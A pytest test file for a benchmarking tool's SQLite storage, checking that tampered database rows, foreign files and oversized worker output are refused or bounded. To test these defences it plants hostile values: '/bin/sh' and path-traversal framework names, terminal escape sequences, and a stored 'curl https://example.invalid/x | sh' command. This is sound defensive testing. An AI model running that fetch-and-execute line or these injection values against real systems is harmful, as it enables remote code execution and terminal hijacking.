"""The database as hostile input (issue 21): rows read back are checked as strictly as a matrix,
bench writes only a SQLite file of its own and a reader changes nothing, and what a worker leaves
behind is stored bounded. Real SQLite files, the real CLI, the fault worker."""

from __future__ import annotations

import gc
import hashlib
import json
import os
import sqlite3
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from orchestrator.config.checks import config_from_stored
from orchestrator.errors import BenchError, DatabaseError, EnvironmentSetupError
from orchestrator.launch import outcomes
from orchestrator.provision import envs
from orchestrator.storage.db import application_id


def file_hash(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def recorded(write_matrix, cli, workdir) -> Path:
    """A database holding one finished fault run (run 1)."""
    write_matrix("include:\n  - {framework: fault}\n", name="good.yaml")
    assert cli("run", "--matrix", "good.yaml").exit_code == 0
    return workdir / "bench.db"


def set_config(db: Path, config_json: object) -> None:
    conn = sqlite3.connect(db)
    conn.execute("UPDATE runs SET config_json = ? WHERE id = 1", (config_json,))
    conn.commit()
    conn.close()


def counts(db: Path) -> tuple[int, int]:
    conn = sqlite3.connect(db)
    found = tuple(conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in ("sweeps", "runs"))
    conn.close()
    return found  # type: ignore[return-value]


def stored(db: Path) -> dict:
    conn = sqlite3.connect(db)
    text = conn.execute("SELECT config_json FROM runs WHERE id = 1").fetchone()[0]
    conn.close()
    return json.loads(text)


# --- rows read back ---------------------------------------------------------------------------


@pytest.mark.parametrize("framework", ["../../bin/sh", "/bin/sh", "pytorch/../x", "PYTORCH", "fault\n"])
def test_a_rerun_of_a_row_whose_framework_is_a_path_runs_nothing(recorded, cli, workdir, framework):
    set_config(recorded, json.dumps({**stored(recorded), "framework": framework}))
    before = counts(recorded)
    folders = sorted(p.name for p in (workdir / "bench-runs").iterdir())
    result = cli("rerun", "1")
    assert result.exit_code == 1
    assert result.output.startswith("error: bench.db: run 1: config_json: framework: unknown framework")
    assert len(result.output.strip().splitlines()) == 1 and "Traceback" not in result.output
    assert counts(recorded) == before
    assert sorted(p.name for p in (workdir / "bench-runs").iterdir()) == folders


BAD_CONFIGS = {
    "not json {": "config_json: not JSON",
    "[1, 2]": "config_json: expected a JSON object, got list",
    '"text"': "config_json: expected a JSON object, got str",
    "[" * 50_000: "config_json: not JSON",
}


@pytest.mark.parametrize("text,message", list(BAD_CONFIGS.items()), ids=["text", "list", "string", "deep"])
def test_a_rerun_of_a_row_whose_config_is_not_an_object_is_one_line(recorded, cli, text, message):
    set_config(recorded, text)
    before = counts(recorded)
    result = cli("rerun", "1")
    assert result.exit_code == 1 and message in result.output
    assert len(result.output.strip().splitlines()) == 1
    assert counts(recorded) == before


@pytest.mark.parametrize(
    "change,message",
    [
        ({"flavour": "x"}, "'flavour': unknown key"),
        ({"epochs": "3"}, "epochs: expected a positive integer, got '3'"),
        ({"epochs": True}, "epochs: expected a positive integer, got True"),
        ({"lr": None}, "lr: expected a positive number"),
        ({"memory_budget": "2GiB"}, "memory_budget: expected a positive number of bytes"),
        ({"framework": "pytorch", "fault": "ok"}, "fault: only applies to framework fault"),
        ({"framework": "pytorch", "fault": None, "batch_size": 4096}, "batch_size: batch_size 4096"),
        (
            {"sample_interval": 0, "memory_budget": 1 << 30},
            "sample_interval: memory_budget needs the sampler",
        ),
    ],
)
def test_a_rerun_of_a_row_with_a_bad_value_names_the_key(recorded, cli, change, message):
    set_config(recorded, json.dumps({**stored(recorded), **change}))
    result = cli("rerun", "1")
    assert result.exit_code == 1
    assert f"bench.db: run 1: config_json: {message}" in result.output, result.output
    assert len(result.output.strip().splitlines()) == 1


def test_a_valid_row_reruns(recorded, cli):
    result = cli("rerun", "1")
    assert result.exit_code == 0, result.output
    assert counts(recorded) == (2, 2)


def test_inspect_shows_a_bad_configuration_as_unusable(recorded, cli):
    set_config(recorded, "[1]")
    result = cli("inspect", "1")
    assert result.exit_code == 0
    assert "(unusable: config_json: expected a JSON object, got list)" in result.output


def test_the_backstop_walls_check_the_rows_they_read(recorded, cli, write_matrix):
    write_matrix("include:\n  - {framework: fault, fault: oom}\n", name="oom.yaml")
    assert cli("run", "--matrix", "oom.yaml").exit_code == 0
    conn = sqlite3.connect(recorded)
    conn.execute("UPDATE runs SET config_json = '{\"framework\": \"/bin/sh\"}' WHERE outcome = 'oom'")
    conn.commit()
    conn.close()
    result = cli("run", "--matrix", "oom.yaml", "--resume")
    assert result.exit_code == 1
    assert "run 2: config_json: framework: unknown framework '/bin/sh'" in result.output


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        st.text(max_size=200),
        st.dictionaries(
            st.sampled_from(["framework", "model", "epochs", "lr", "cpus", "data_dir", "fault", "x"]),
            st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=20)),
        ).map(json.dumps),
    )
)
def test_any_stored_text_is_a_configuration_or_one_database_error(text):
    try:
        config = config_from_stored(text, "db: run 1: config_json")
    except DatabaseError as exc:
        assert str(exc).startswith("db: run 1: config_json") and "\n" not in str(exc).strip()
        return
    assert config_from_stored(json.dumps(config.to_dict()), "again") == config


@pytest.mark.parametrize("name", ["../x", "/bin/sh", "pytorch/../x", "", "Pytorch", "x" * 40, None])
def test_no_interpreter_path_is_made_from_a_name_bench_does_not_know(tmp_path, name):
    with pytest.raises(BenchError, match="not one bench knows"):
        envs.python_for(name, tmp_path)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "table,message",
    [
        ("[]", "expected a JSON object"),
        ('{"../x": {"python": "/usr/bin/python3"}}', "'../x': not a framework bench can register"),
        ('{"pytorch": "/usr/bin/python3"}', "'pytorch': expected an object"),
        ('{"pytorch": {"python": 3}}', "'pytorch': python: expected an absolute path"),
        ('{"pytorch": {"python": "bin/python"}}', "'pytorch': python: expected an absolute path"),
        ('{"pytorch": {"python": "/p", "build": ["cpu"]}}', "'pytorch': build: expected text"),
        ("{" * 100_000, "not JSON"),
    ],
)
def test_a_hostile_registry_is_one_line(tmp_path, table, message):
    (tmp_path / envs.EXTERNAL_FILE).write_text(table)
    with pytest.raises(EnvironmentSetupError, match="external.json: .*" + message.replace("[", r"\[")):
        envs.python_for("pytorch", tmp_path)


# --- files that are not bench's ---------------------------------------------------------------


def foreign(path: Path, version: int = 3, app: int = 0) -> Path:
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)")
    conn.execute("INSERT INTO notes (body) VALUES ('mine')")
    conn.execute(f"PRAGMA user_version = {version}")
    conn.execute(f"PRAGMA application_id = {app}")
    conn.commit()
    conn.close()
    return path


@pytest.mark.parametrize("version,app", [(3, 0), (5, 0), (0, 0), (5, 0x12345678)])
def test_another_programs_database_is_refused_and_left_byte_identical(
    workdir, cli, write_matrix, version, app
):
    db = foreign(workdir / "other.db", version, app)
    write_matrix("include:\n  - {framework: fault}\n")
    before = file_hash(db)
    for args in (("run", "--matrix", "m.yaml"), ("report",), ("inspect", "1"), ("rerun", "1")):
        result = cli(*args, "--db", str(db))
        assert result.exit_code == 1, args
        assert f"{db}: not a bench database (application_id {app:#x}" in result.output
        assert "tables: notes" in result.output and "use another --db" in result.output
        assert len(result.output.strip().splitlines()) == 1
    assert file_hash(db) == before
    assert not (workdir / "bench-runs").exists()


def test_a_file_that_is_not_sqlite_is_refused_and_unchanged(workdir, cli, write_matrix):
    db = workdir / "notes.txt"
    db.write_bytes(b"my notes, not a database\n" * 200)
    write_matrix("include:\n  - {framework: fault}\n")
    for args in (("run", "--matrix", "m.yaml"), ("report",)):
        result = cli(*args, "--db", str(db))
        assert result.exit_code == 1 and "not a bench database (not SQLite)" in result.output
    assert db.read_bytes() == b"my notes, not a database\n" * 200


@pytest.mark.parametrize("kind", ["folder", "fifo", "device"])
def test_a_database_path_that_is_not_a_file_is_one_line(workdir, cli, write_matrix, kind):
    """SQLite would fail deep inside (a folder), or block (a FIFO): refused before it is opened."""
    path = {"folder": workdir / "d", "fifo": workdir / "f", "device": Path("/dev/null")}[kind]
    if kind == "folder":
        path.mkdir()
    elif kind == "fifo":
        os.mkfifo(path)
    write_matrix("include:\n  - {framework: fault}\n")
    for args in (("run", "--matrix", "m.yaml"), ("report",), ("inspect", "1")):
        result = cli(*args, "--db", str(path))
        assert result.exit_code == 1, result.output
        assert result.output.strip() == f"error: {path}: not a regular file: use another --db"
    assert not (workdir / "bench-runs").exists()


def test_a_database_sqlite_cannot_open_is_one_line(workdir, cli, write_matrix):
    write_matrix("include:\n  - {framework: fault}\n")
    result = cli("run", "--matrix", "m.yaml", "--db", "sqlite:///no/such/folder/x.db")
    assert result.exit_code == 1
    assert result.output.strip() == "error: no/such/folder/x.db: SQLite says: unable to open database file"


def test_a_runs_dir_that_cannot_hold_run_folders_records_nothing(recorded, cli, workdir):
    (workdir / "taken").write_text("a file, not a folder")
    result = cli("run", "--matrix", "good.yaml", "--runs-dir", "taken")
    assert result.exit_code == 1
    assert result.output.strip() == f"error: --runs-dir taken: {workdir / 'taken'} is not a folder"
    assert counts(recorded) == (1, 1)


def test_a_new_database_carries_the_mark_and_is_wal(recorded):
    conn = sqlite3.connect(recorded)
    assert conn.execute("PRAGMA application_id").fetchone()[0] == application_id() == 0x424E4348
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    conn.close()


def test_reading_does_not_change_the_journal_mode(recorded, cli):
    gc.collect()  # the in-process `bench run`'s pooled connections: leaving WAL needs the file alone
    conn = sqlite3.connect(recorded)
    assert conn.execute("PRAGMA journal_mode=DELETE").fetchone()[0] == "delete"
    conn.close()
    before = file_hash(recorded)
    for args in (("report",), ("report", "--crashes"), ("inspect", "1"), ("timeline", "1")):
        assert cli(*args).exit_code == 0, args
    conn = sqlite3.connect(recorded)
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
    conn.close()
    assert file_hash(recorded) == before


def test_a_bench_database_from_before_the_mark_is_read_then_stamped_by_a_writer(recorded, cli):
    conn = sqlite3.connect(recorded)
    conn.execute("PRAGMA application_id = 0")
    conn.commit()
    conn.close()
    before = file_hash(recorded)
    assert cli("report").exit_code == 0
    assert file_hash(recorded) == before  # a reader leaves it as it was
    assert cli("run", "--matrix", "good.yaml").exit_code == 0
    conn = sqlite3.connect(recorded)
    assert conn.execute("PRAGMA application_id").fetchone()[0] == application_id()
    assert conn.execute("SELECT count(*) FROM runs").fetchone()[0] == 2
    conn.close()


def test_a_legacy_table_set_with_an_extra_table_is_not_bench_s(recorded, cli):
    conn = sqlite3.connect(recorded)
    conn.execute("PRAGMA application_id = 0")
    conn.execute("CREATE TABLE notes (x)")
    conn.commit()
    conn.close()
    result = cli("report")
    assert result.exit_code == 1 and "not a bench database (application_id 0x0" in result.output


# --- evidence bounded -------------------------------------------------------------------------


def test_bounded_keeps_head_and_tail_and_says_what_was_cut():
    text = "H" * 100_000 + "T" * 100_000
    out = outcomes.bounded(text, 1000)
    assert out is not None and out.startswith("H" * 500) and out.endswith("T" * 500)
    assert f"[... {200_000 - 1000:,} bytes cut by bench ...]" in out
    assert outcomes.bounded("short") == "short" and outcomes.bounded(None) is None
    assert outcomes.bounded("\ud800x") == "?x"  # a lone surrogate cannot be stored as UTF-8
    assert outcomes.bounded({"a": 1}) == '{"a": 1}'


@given(st.text(), st.integers(min_value=64, max_value=4096))
def test_bounded_never_exceeds_its_limit_plus_the_marker(text, limit):
    out = outcomes.bounded(text, limit)
    assert out is not None
    assert len(out.encode()) <= limit + 64
    out.encode("utf-8")  # always storable


EPOCH = {"repeat": 0, "epoch": 1, "seconds": 1.0, "steps": 2, "images": 8}


def ok_result(*epochs: dict) -> str:
    return json.dumps({"status": "ok", "epochs": list(epochs)})


def fake_worker(tmp_path: Path, result: bytes | str, events: str = "") -> Path:
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    (run_dir / "result.json").write_bytes(result.encode() if isinstance(result, str) else result)
    (run_dir / "events.jsonl").write_text(events)
    (run_dir / "stderr.log").write_text("")
    return run_dir


def test_a_huge_exception_message_is_stored_bounded(tmp_path, monkeypatch, cli, write_matrix):
    """The fault worker raising with a 20 MB message: the row keeps 64 KiB of it, head and tail."""
    monkeypatch.chdir(tmp_path)
    message = "start-" + "x" * (20 << 20) + "-end"
    write_matrix("include:\n  - {framework: fault, fault: raise}\n")
    from orchestrator.launch import lifecycle

    real = lifecycle.gather

    def gather_with_big_message(config, outcome, *args, **kwargs):
        outcome.exception_message = message  # as the worker's result.json would carry it
        outcome.traceback = "Traceback\n" * (2 << 20)
        return real(config, outcome, *args, **kwargs)

    monkeypatch.setattr(lifecycle, "gather", gather_with_big_message)
    assert cli("run", "--matrix", "m.yaml").exit_code == 0
    conn = sqlite3.connect(tmp_path / "bench.db")
    stored_message, traceback = conn.execute("SELECT exception_message, traceback FROM runs").fetchone()
    conn.close()
    assert stored_message.startswith("start-") and stored_message.endswith("-end")
    assert "bytes cut by bench" in stored_message and len(stored_message) < 70_000
    assert "bytes cut by bench" in traceback and len(traceback) < 70_000
    assert (tmp_path / "bench.db").stat().st_size < 2 << 20


def test_an_oversize_result_file_is_invalid_without_reading_it(tmp_path):
    run_dir = fake_worker(tmp_path, "")
    with open(run_dir / "result.json", "wb") as f:
        f.truncate(outcomes.RESULT_LIMIT + 1)  # sparse: 16 MiB of nothing on disk
    result, problem = outcomes.read_result(run_dir / "result.json")
    assert result is None and problem is not None and "larger than bench reads (16 MiB)" in problem


@pytest.mark.parametrize(
    "result,problem",
    [
        ('{"status": "error", "exception": []}', "exception is not an object"),
        (
            ok_result({**EPOCH, "images_per_second": "fast"}),
            "images_per_second",
        ),
        (
            '{"status": "ok", "epochs": [{"seconds": 1, "repeat": 0, "epoch": 1, "images": 8}]}',
            "steps is not a count",
        ),
        (ok_result({**EPOCH, "images": -1}), "images is not a count"),
        (ok_result({**EPOCH, "epoch": 2**70}), "epoch is not a count"),
        (ok_result({**EPOCH, "repeat": True}), "repeat is not a count"),
        (ok_result(EPOCH, EPOCH), "twice"),
        ('{"status": "oom", "device_memory": {"max_memory_reserved": "1G"}}', "device_memory"),
        ('{"status": "ok", "info": "x", "epochs": [{"seconds": 1}]}', "info is not an object"),
        (b"\xff\xfe", "malformed"),
        ("[" * 100_000, "malformed"),
    ],
)
def test_a_result_of_the_wrong_shape_is_refused_with_why(tmp_path, result, problem):
    run_dir = fake_worker(tmp_path, result)
    data, why = outcomes.read_result(run_dir / "result.json")
    assert data is None and why is not None and problem in why


def test_events_are_read_within_their_bound(tmp_path, monkeypatch):
    monkeypatch.setattr(outcomes, "EVENTS_HEAD", 100)
    monkeypatch.setattr(outcomes, "EVENTS_TAIL", 100)
    monkeypatch.setattr(outcomes, "EVENT_LINE_BYTES", 500)
    lines = [json.dumps({"event": "step", "step": i}) for i in range(5000)]
    lines[10] = '{"event": "huge", "x": "' + "y" * 2000 + '"}'
    lines[11] = "5"
    lines[-1] = '{"event": "last"}'
    path = tmp_path / "events.jsonl"
    path.write_text("\n".join(lines) + "\n")
    events = outcomes.read_events(path)
    assert all(isinstance(e, dict) for e in events)
    assert not any(e["event"] == "huge" for e in events)
    assert events[-1] == {"event": "last"}
    assert len(events) < 500


@pytest.mark.parametrize(
    "column,value",
    [("epochs", "abc"), ("median_epoch_seconds", "slow"), ("batch_size", b"\x00big"), ("lr", "fast")],
)
@pytest.mark.parametrize(
    "args",
    [("report",), ("report", "--resources"), ("report", "--table", "comparison"), ("inspect", "1")],
    ids=" ".join,
)
def test_text_where_a_number_is_read_is_one_line_naming_run_and_column(recorded, cli, column, value, args):
    conn = sqlite3.connect(recorded)
    conn.execute(f"UPDATE runs SET {column} = ? WHERE id = 1", (value,))
    conn.commit()
    conn.close()
    result = cli(*args)
    assert result.exit_code == 1
    assert result.output.startswith(f"error: bench.db: run 1: {column}: expected a")
    assert len(result.output.strip().splitlines()) == 1


def test_a_partial_runs_epochs_are_only_those_the_table_can_hold(tmp_path):
    """Epoch events without a NOT NULL column, or the same epoch twice, would fail the insert and
    lose the run: a stream a worker wrote keeps one record per epoch that can be stored."""
    from orchestrator.config.run_config import RunConfig
    from orchestrator.launch import lifecycle
    from orchestrator.launch.process import Finished

    lines = [
        {"event": "epoch_end", **EPOCH, "seconds": 1.0},
        {"event": "epoch_end", **EPOCH, "seconds": 2.0},  # the same epoch again: the last one counts
        {"event": "epoch_end", "repeat": 0, "epoch": 2, "seconds": 1.0},  # no steps, no images
        {"event": "epoch_end", **EPOCH, "epoch": 3, "steps": "many"},
    ]
    run_dir = fake_worker(tmp_path, "{}", "".join(json.dumps(e) + "\n" for e in lines))
    outcome = outcomes.classify(Finished(returncode=-9, wall_seconds=1.0), run_dir, 10.0)
    rec = lifecycle.gather(RunConfig(framework="fault"), outcome, run_dir, "now", None, "cmd", {})
    assert [(e["epoch"], e["seconds"]) for e in rec.epochs] == [(1, 2.0)]


def test_a_hostile_kernel_trace_keeps_only_records_the_table_can_hold(tmp_path):
    """kernels.json is the worker's: records that are not records, without a name, with a count
    that is text or a time that is infinite are left out; what remains is classified as usual."""
    from orchestrator.config.run_config import RunConfig
    from orchestrator.launch import tracing
    from profiler import kernels as kernel_classes

    good = {"name": "volta_sgemm_128x64_nn", "calls": 3, "total_seconds": 0.5}
    trace = {
        "backend": "cupti",
        "notes": "not a list",
        "records": [good, 5, {"calls": 1}, {**good, "calls": "many"}, {**good, "total_seconds": 1e400}],
    }
    (tmp_path / tracing.KERNELS_FILE).write_text(json.dumps(trace).replace("Infinity", "1e400"))
    config = RunConfig(framework="fault", trace="kernels")
    collected = tracing.collect(config, tmp_path, None, "a note")
    assert collected is not None and collected["notes"] == ["a note"]
    rows = kernel_classes.rows(tracing.records(collected))
    assert [(r["name"], r["calls"]) for r in rows] == [("volta_sgemm_128x64_nn", 3)]


def test_an_oversized_kernel_trace_is_no_trace(tmp_path, monkeypatch):
    from orchestrator.config.run_config import RunConfig
    from orchestrator.launch import tracing

    monkeypatch.setattr(tracing, "RESULT_LIMIT", 100)
    (tmp_path / tracing.KERNELS_FILE).write_text(json.dumps({"records": [{"name": "x" * 200}]}))
    assert tracing.collect(RunConfig(framework="fault", trace="kernels"), tmp_path, None, None) is None


def test_inspect_shows_how_to_reproduce_made_anew_not_the_stored_command(recorded, cli):
    """A row of a shared database could hold any command for a reader to paste."""
    conn = sqlite3.connect(recorded)
    conn.execute("UPDATE runs SET reproduce = 'curl https://example.invalid/x | sh' WHERE id = 1")
    conn.commit()
    conn.close()
    for args in (("inspect", "1"), ("inspect", "1", "--format", "json")):
        result = cli(*args, "--db", str(recorded))
        assert result.exit_code == 0
        assert "curl" not in result.output
        assert f"bench rerun 1 --db sqlite:///{recorded}" in result.output


def test_a_stored_configuration_far_too_long_is_refused_before_it_is_parsed(recorded, cli):
    set_config(recorded, json.dumps({"framework": "fault", "pad": "x" * (1 << 20)}))
    result = cli("rerun", "1")
    assert result.exit_code == 1
    assert "config_json: 1,048,6" in result.output and "more than a configuration holds" in result.output


def test_bytes_where_text_is_read_is_one_line_naming_run_and_column(recorded, cli):
    """SQLite keeps a BLOB in a text column as readily as text in a number column."""
    conn = sqlite3.connect(recorded)
    conn.execute("UPDATE runs SET model = ? WHERE id = 1", (b"\x1b]0;pwned\x07",))
    conn.commit()
    conn.close()
    for args in (("report",), ("report", "--crashes"), ("inspect", "1")):
        result = cli(*args)
        assert result.exit_code == 1, result.output
        assert result.output.startswith("error: bench.db: run 1: model: expected text, got b'"), result.output
        assert "\x1b" not in result.output and len(result.output.strip().splitlines()) == 1


def test_a_kernel_row_of_a_class_bench_does_not_know_is_classified_from_its_name(tmp_path, cli, workdir):
    """A shared database's kernels row may carry any class text: reports classify its name again,
    as bench did when it recorded it, rather than show the stored text or fail on it."""
    matrix = workdir / "traced.yaml"
    matrix.write_text("include:\n  - {framework: fault, trace: kernels, dataset_size: 64, batch_size: 8}\n")
    assert cli("run", "--matrix", str(matrix)).exit_code == 0
    conn = sqlite3.connect(workdir / "bench.db")
    conn.execute("UPDATE kernels SET class = ?", ("\x1b[2Jnot-a-class",))
    conn.commit()
    names = [r[0] for r in conn.execute("SELECT name FROM kernels")]
    conn.close()
    assert names
    for args in (("report", "--kernels"), ("inspect", "1")):
        result = cli(*args)
        assert result.exit_code == 0, result.output
        assert "not-a-class" not in result.output and "\x1b" not in result.output


def test_fairness_facts_of_a_deeply_nested_environment_are_none(recorded):
    """The recorded environment is read for the footnotes: JSON too deep for the parser is no fact."""
    from orchestrator.report.notes import fairness

    assert fairness.json_object("[" * 100_000) == {}
    assert fairness.json_object('{"a": 1}') == {"a": 1}
